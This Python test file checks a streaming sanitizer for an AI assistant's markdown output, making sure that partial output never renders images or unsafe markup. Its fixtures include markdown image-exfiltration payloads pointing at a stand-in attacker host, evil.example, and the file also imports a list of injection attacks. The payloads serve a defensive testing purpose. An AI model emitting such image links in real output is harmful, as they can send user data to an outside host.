"""An answer in pieces is as harmless as the whole, at every moment, and comes as soon as it can."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dt6_lsp.assistant.sanitize import sanitize
from dt6_lsp.assistant.streaming import Harmless
from tests.injections import ATTACKS
from tests.markdown_pages import TABLES, assert_harmless

PLAIN = "It opens (`app/io.py:1-3`) and reads it.\n\n```python\nx = a[0](b) < c\n```\n\nThen it *closes* it, 2 < 3.\n"
FRAGMENTS = (
    *(attack for attack in ATTACKS if "](" in attack),
    "![", "[a](", "http://evil.example)", "![x](http://evil.example/?q)", "`", "``", "```\n", "~~~\n", "\n", "\n\n",
    "- ", "<img src=x>", "$$", "|a|b|\n|-|-|\n", "word ", "[ref]: http://evil.example\n", "![ref]", "\\", "&lt;",
    "    ", "> ",
)  # fmt: skip


def told(pieces: list[str]) -> list[str]:
    """All that was told after each piece, and at the end."""
    stream, so_far, all_told = Harmless(), "", []
    for piece in pieces:
        so_far += stream.feed(piece)
        all_told.append(so_far)
    return [*all_told, so_far + stream.rest()]


def by_characters(text: str, size: int = 1) -> list[str]:
    return [text[start : start + size] for start in range(0, len(text), size)]


@pytest.mark.parametrize("size", [1, 3, 1000])
def test_in_the_end_all_has_been_told(size: int) -> None:
    assert told(by_characters(PLAIN, size))[-1] == sanitize(PLAIN)


def test_plain_words_and_complete_code_spans_come_at_once() -> None:
    stream = Harmless()
    assert [stream.feed(word) for word in ("It ", "opens ", "`a", ".py:3`", " and")] == [
        "It ",
        "opens ",
        "",
        "`a.py:3`",
        " and",
    ]


def test_code_comes_line_by_line() -> None:
    stream = Harmless()
    assert stream.feed("```python\nx = a[0](b") == "```python\n"
    assert stream.feed(")\ny") == "x = a[0](b)\n"


@pytest.mark.parametrize("before", ["", "See ", "`code` and ", "One.\n\nTwo "])
def test_an_image_is_never_told_as_one(before: str) -> None:
    for text in told(by_characters(f"{before}![secret](https://evil.example/?q=1) there.")):
        assert "![" not in text
        assert_harmless(text)


@given(st.lists(st.sampled_from(FRAGMENTS), max_size=8), st.integers(1, 40))
@settings(max_examples=400)
def test_at_every_moment_it_is_harmless_and_the_beginning_of_the_whole(fragments: list[str], size: int) -> None:
    whole = "".join(fragments)
    clean = sanitize(whole.replace("\r", ""))
    for text in told(by_characters(whole, size)):
        assert clean.startswith(text) or _changed_its_mind(clean, text)
        assert_harmless(text)


def _changed_its_mind(clean: str, text: str) -> bool:
    """The end of a text may escape what was harmless before it: then telling stops."""
    return any(mark in clean[: len(text)] for mark in ("$", "&lt;", "\\:", "]\\"))


@given(st.text(max_size=300), st.integers(1, 50))
def test_any_text_ends_and_is_harmless(text: str, size: int) -> None:
    assert_harmless(told(by_characters(text, size))[-1])


def test_tables_are_told_when_they_are_complete() -> None:
    assert TABLES
    assert told(by_characters("|a|b|\n|-|-|\n|1|2|\n\nEnd."))[-1].endswith("End.")
